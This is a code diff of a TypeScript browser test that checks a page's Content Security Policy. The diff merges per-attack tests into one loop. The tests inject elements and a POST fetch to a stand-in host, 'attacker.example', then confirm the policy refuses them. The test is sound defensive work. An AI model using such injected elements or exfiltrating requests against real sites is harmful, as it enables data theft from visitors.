@@ -22,33 +22,35 @@ const ATTACKS: readonly (readonly [directive: string, tag: string, properties: R
   ["form-action", "form", { action: "https://attacker.example/" }],
 ];
 
-test.each(ATTACKS)("%s refuses an attacker's <%s> with %p", async (directive, tag, properties) => {
+test("the policy refuses what an attacker adds to a page, and requests to another site", async () => {
   const page = await browser.visit(TERMS, DESKTOP);
-  const violated = await page.evaluate(
-    ([name, attributes]) =>
-      new Promise<string>((resolve) => {
-        document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) => {
-          resolve(effectiveDirective);
-        });
-        const element = document.createElement(name);
-        document.body.append(element);
-        try {
-          Object.assign(element, attributes);
-        } catch {
-          // Trusted Types throw as well as report.
-        }
-        if (element instanceof HTMLFormElement) {
-          element.submit();
-        }
-      }),
-    [tag, properties] as const,
-  );
-  expect(violated).toMatch(directive);
+  for (const [directive, ...element] of ATTACKS) {
+    const violated = await page.evaluate(
+      ([name, attributes]) =>
+        new Promise<string>((resolve) => {
+          document.addEventListener(
+            "securitypolicyviolation",
+            ({ effectiveDirective }) => {
+              resolve(effectiveDirective);
+            },
+            { once: true },
+          );
+          const added = document.createElement(name);
+          document.body.append(added);
+          try {
+            Object.assign(added, attributes);
+          } catch {
+            // Trusted Types throw as well as report.
+          }
+          if (added instanceof HTMLFormElement) {
+            added.submit();
+          }
+        }),
+      element,
+    );
+    expect([...element, violated]).toEqual([...element, expect.stringContaining(directive)]);
+  }
   expect(await page.evaluate(() => "attacked" in window)).toBe(false);
-});
-
-test("connect-src refuses a request to another site", async () => {
-  const page = await browser.visit(TERMS, DESKTOP);
   const refused = page.waitForEvent("console", (message) => message.text().includes("connect-src"));
   await page.evaluate(() => fetch("https://attacker.example/", { method: "POST" }).catch(() => undefined));
   await refused;
